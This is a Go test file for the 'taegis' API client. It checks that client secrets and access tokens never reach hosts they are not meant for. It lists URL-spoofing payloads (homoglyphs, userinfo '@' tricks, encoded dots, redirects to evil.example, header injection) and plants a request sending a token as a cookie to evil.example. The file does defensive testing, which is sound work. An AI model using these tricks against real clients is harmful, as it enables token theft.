//go:build unix

package leaks

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	taegis "github.com/taegis-go/taegis"
	"github.com/taegis-go/taegis/adapters/tokenstore"
	"github.com/taegis-go/taegis/core"
	"github.com/taegis-go/taegis/internal/stress"
	"github.com/taegis-go/taegis/internal/testutil"
)

// network answers every request in the place of all hosts, and keeps what was sent to which.
type network struct {
	answer func(*http.Request) *http.Response // nil means what Taegis answers

	mu   sync.Mutex
	sent []sending
}

type sending struct{ host, text string }

// RoundTrip is part of [http.RoundTripper].
func (n *network) RoundTrip(r *http.Request) (*http.Response, error) {
	var text bytes.Buffer
	fmt.Fprintln(&text, r.Method, r.URL, r.Host)
	_ = r.Header.Write(&text) // a buffer takes everything
	if r.Body != nil {
		_, _ = io.Copy(&text, r.Body)
		_ = r.Body.Close()
	}
	n.mu.Lock()
	n.sent = append(n.sent, sending{lower(r.URL.Host), text.String()})
	n.mu.Unlock()
	if n.answer != nil {
		if answer := n.answer(r); answer != nil {
			return answer, nil
		}
	}
	if strings.HasSuffix(r.URL.Path, "/token") {
		return reply(r, http.StatusOK, `{"access_token": "`+mint(r.URL.Host)+`", "expires_in": 3600}`), nil
	}
	if strings.HasSuffix(r.URL.Path, "/whoami/v1") {
		return reply(r, http.StatusOK, `{"id": "4c3f0b5e-7d1a-4a53-9f0e-2b6c8d917a10", "idType": "tenant"}`), nil
	}
	return reply(r, http.StatusOK, `{"data": {"currentSubject": {"id": "1"}}}`), nil
}

// lower is the name of a host in one case, and no other host's, as Unicode would make it.
func lower(host string) string {
	return string(bytes.Map(func(r rune) rune {
		if 'A' <= r && r <= 'Z' {
			return r + 'a' - 'A'
		}
		return r
	}, []byte(host)))
}

func reply(r *http.Request, status int, body string, header ...string) *http.Response {
	h := http.Header{"Content-Type": {"application/json"}}
	for i := 0; i < len(header); i += 2 {
		h.Set(header[i], header[i+1])
	}
	return &http.Response{
		StatusCode: status, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Header: h, Request: r,
		Body: io.NopCloser(strings.NewReader(body)), ContentLength: int64(len(body)),
	}
}

// mint makes a token of a host, which its text tells.
func mint(host string) string {
	claims, _ := json.Marshal(map[string]any{"exp": time.Now().Add(time.Hour).Unix(), "client_id": clientID}) // both can be encoded
	return "e30." + base64.RawURLEncoding.EncodeToString(claims) + "." + base64.RawURLEncoding.EncodeToString([]byte("minted-by-"+lower(host)))
}

// strays are the sendings of a secret to a host that it is not for: of a token, all hosts but those
// of the environment that minted it; of the client's secret, all but those.
func (n *network) strays(allowed ...string) (list []string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	secrets := map[string]string{"the client secret": clientSecret, "the secret of fusion": sophosSecret, "the Basic credential": base64.StdEncoding.EncodeToString([]byte(clientID + ":" + clientSecret))}
	for _, host := range allowed {
		secrets["the token of "+host] = mint(host)[strings.LastIndex(mint(host), ".")+1:]
	}
	for _, s := range n.sent {
		if !slices.Contains(allowed, s.host) {
			list = append(list, testutil.Leaks(secrets, []testutil.Output{{Run: "sent to " + s.host, Text: s.text}})...)
		}
	}
	return list
}

// client is one whose every connection ends in the network.
func (n *network) client(options ...taegis.Option) (*taegis.Client, error) {
	variables := map[string]string{
		"CLIENT_ID": clientID, "CLIENT_SECRET": clientSecret,
		"SOPHOS_CLIENT_ID": "of-fusion", "SOPHOS_CLIENT_SECRET": sophosSecret,
	}
	return taegis.New(append([]taegis.Option{
		taegis.WithHTTPClient(&http.Client{Transport: n}), taegis.WithTokenStore(&tokenstore.Memory{}),
		taegis.WithLookupEnv(func(name string) (string, bool) { value, ok := variables[name]; return value, ok }),
		taegis.WithConfigFile("/nonexistent/config"), taegis.WithRetry(core.RetryLimits{MaxTries: 1}),
		taegis.WithNonInteractive("this is a test"), taegis.WithPrompt(core.Prompt{}),
	}, options...)...)
}

// sophosSecret is the secret of the client of fusion.
const sophosSecret = "leak-secret-of-fusion"

var subject = &core.Operation{Kind: core.KindQuery}

func query(operation *core.Operation) *core.Request {
	return &core.Request{Operation: operation, Document: "{ currentSubject { id } }"}
}

// try makes a call and begins a subscription, whatever comes of them.
func try(ctx context.Context, client *taegis.Client, operation *core.Operation) (failed bool) {
	err := client.Execute(ctx, query(operation), nil)
	stream := *operation
	stream.Kind = core.KindSubscription
	for _, streaming := range client.Subscribe(ctx, &core.Request{Operation: &stream, Document: "subscription { x }"}) {
		_ = streaming // a handshake without an answer
	}
	return err != nil
}

// hostsOf are the hosts that an environment's secrets are for.
func hostsOf(e core.Environment) (hosts []string) {
	for _, base := range []string{e.APIURL, e.AuthURL, e.TenantsURL} {
		if u, err := url.Parse(base); err == nil {
			hosts = append(hosts, strings.ToLower(u.Host))
		}
	}
	return hosts
}

// addresses counts what is tried with addresses.
type addresses struct {
	*testing.T
	charlie                 []string // its hosts
	tried, rejected, strays int
}

// check counts one way that was tried, and the secrets that went astray.
func (a *addresses) check(name string, n *network, allowed ...string) {
	a.Helper()
	a.tried++
	for _, stray := range n.strays(allowed...) {
		a.strays++
		a.Errorf("%s: %s", name, stray)
	}
}

// client is one of a network.
func (a *addresses) client(n *network, options ...taegis.Option) *taegis.Client {
	a.Helper()
	client, err := n.client(options...)
	if err != nil {
		a.Fatal(err)
	}
	return client
}

func TestSecretsStayWithTheirHosts(t *testing.T) {
	charlie, err := core.FindEnvironment("charlie")
	if err != nil {
		t.Fatal(err)
	}
	a := &addresses{T: t, charlie: hostsOf(charlie)}
	a.environments()
	a.redirects()
	a.bases()
	a.gateways()
	a.headers()
	a.otherEnvironments()
	stress.Report(t, stress.Leaks, "redirects, tricks in base URLs and gateways, headers, other environments", "0 secrets at hosts that they are not for",
		"%d ways tried, %d of them refused: %d", a.tried, a.rejected, a.strays)

	// A program that sends the token elsewhere by itself is found.
	n := new(network)
	unguarded, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://evil.example", http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	unguarded.Header.Set("Cookie", "t="+mint("api.ctpx.secureworks.com"))
	if _, err := n.RoundTrip(unguarded); err != nil {
		t.Fatal(err)
	}
	if len(n.strays(a.charlie...)) == 0 {
		t.Error("a planted leak was not found")
	}
}

// environments calls each of the built-in ones, which works. Fusion has no subscriptions.
func (a *addresses) environments() {
	for _, environment := range core.Environments() {
		requests := 3
		if environment.Platform == core.PlatformFusion {
			requests = 2
		}
		for _, base := range []core.Host{"", core.HostTenants} {
			n := new(network)
			client := a.client(n, taegis.WithEnvironment(environment.Name), taegis.WithTenant("4c3f0b5e-7d1a-4a53-9f0e-2b6c8d917a10"))
			if try(a.Context(), client, &core.Operation{Kind: core.KindQuery, Host: base}) {
				a.Errorf("%s: the call failed", environment.Name)
			}
			a.check(environment.Name, n, hostsOf(environment)...)
			if len(n.sent) < requests {
				a.Errorf("%s: %d requests", environment.Name, len(n.sent))
			}
		}
	}
}

// redirects lead elsewhere, while logging in and while calling.
func (a *addresses) redirects() {
	for _, status := range allRedirects {
		for _, to := range []string{
			"https://evil.example/", "https://api.ctpx.secureworks.com.evil.example/", "https://api.ctpx.secureworks.com:8443/",
			"http://api.ctpx.secureworks.com/", "https://api.ctpx.secureworks.com@evil.example/", "//evil.example/",
			`https:\\evil.example`, "https://evil.api.ctpx.secureworks.com/",
		} {
			for _, at := range []string{"/token", "/graphql"} {
				a.redirect(status, at, to)
			}
		}
	}
}

func (a *addresses) redirect(status int, at, to string) {
	n := &network{answer: func(r *http.Request) *http.Response {
		if strings.HasSuffix(r.URL.Path, at) && r.URL.Host == "api.ctpx.secureworks.com" {
			return reply(r, status, "", "Location", to)
		}
		return nil
	}}
	if !try(a.Context(), a.client(n), subject) {
		a.Errorf("%d at %s to %s: the call did not fail", status, at, to)
	}
	a.rejected++
	for _, s := range n.sent {
		if s.host != "api.ctpx.secureworks.com" || strings.Contains(s.text, " http:") {
			a.Errorf("%d at %s to %s was followed", status, at, to)
		}
	}
	a.check("redirect", n, a.charlie...)
}

// bases are base URLs that look like charlie's. The cached token of charlie must not go there.
func (a *addresses) bases() {
	for _, trick := range []string{
		"https://api.ctpx.secureworks.com@evil.example", "https://api.ctpx.secureworks.com:443@evil.example", "https://API.CTPX.SECUREWORKS.COM",
		"https://api.ctpx.secureworks.com.", "https://api.ctpx.secureworks.com:8443", "https://api.ctpx.secureworks.com.evil.example",
		`https://api.ctpx.secureworks.com\@evil.example`, `https://evil.example\.api.ctpx.secureworks.com`, "https://api.ctpx.secureworks.com%2eevil.example",
		"https://api.ctpx.secureworks.com%00.evil.example", "https://\u0430pi.ctpx.secureworks.com", "https://apI\u0307.ctpx.secureworks.com", "https://ap\u0130.ctpx.secureworks.com",
		"https://api\u3002evil.example", "http://api.ctpx.secureworks.com", "http://localhost.evil.example", "http://127.0.0.1.evil.example",
		"http://127.0.0.1@evil.example", "//evil.example", "https:///evil.example", "https://evil.example#api.ctpx.secureworks.com",
		"https://evil.example?api.ctpx.secureworks.com", "https://evil.example/api.ctpx.secureworks.com", "http://0177.0.0.1", "http://[::ffff:1.2.3.4]", "evil.example",
	} {
		n, store := new(network), &tokenstore.Memory{}
		try(a.Context(), a.client(n, taegis.WithTokenStore(store)), subject) // the store has the token of charlie now
		client, err := n.client(taegis.WithTokenStore(store), taegis.WithBaseURL(trick),
			taegis.WithLookupEnv(func(string) (string, bool) { return "", false })) // no setting allows this base URL for a secret
		if err != nil {
			a.rejected++
		} else {
			try(a.Context(), client, subject)
		}
		a.check(trick, n, a.charlie...)
	}
}

// gateways are put behind the base URL.
func (a *addresses) gateways() {
	for _, gateway := range []string{
		"@evil.example/graphql", ".evil.example/graphql", ":8443/graphql", "%2eevil.example/", "//evil.example/graphql",
		`/\evil.example`, "/../../evil", "/?x=//evil.example", "/#@evil.example",
	} {
		n := new(network)
		if try(a.Context(), a.client(n), &core.Operation{Kind: core.KindQuery, Gateway: gateway}) {
			a.rejected++
		}
		a.check("gateway "+gateway, n, a.charlie...)
	}
}

// headers of the caller's own do not change where a request goes.
func (a *addresses) headers() {
	n := new(network)
	client := a.client(n)
	for _, name := range []string{"Host", "Authorization", "X-Forwarded-Host", "Sec-WebSocket-Protocol", "Referer", ":authority", "Location"} {
		if try(taegis.ContextWithHeader(a.Context(), name, "evil.example"), client, subject) {
			a.rejected++
		}
		a.check("header "+name, n, a.charlie...)
	}
	for _, s := range n.sent {
		if head, _, _ := strings.Cut(s.text, "\n"); strings.Contains(head, "evil.example") {
			a.Errorf("a header has become the host: %s", head)
		}
	}
}

// otherEnvironments are named by the context, also with a token for charlie.
func (a *addresses) otherEnvironments() {
	given := mint("api.ctpx.secureworks.com")
	for _, ctx := range []context.Context{a.Context(), taegis.ContextWithAccessToken(a.Context(), core.NewSecret(given))} {
		n := new(network)
		client := a.client(n)
		try(ctx, client, subject)
		if try(taegis.ContextWithEnvironment(ctx, "delta"), client, subject) {
			a.rejected++
		}
		a.tried++
		for _, s := range n.sent {
			if !slices.Contains(a.charlie, s.host) && strings.Contains(s.text, given[strings.LastIndex(given, ".")+1:]) {
				a.strays++
				a.Errorf("a token of charlie was sent to %s", s.host)
			}
		}
	}
}
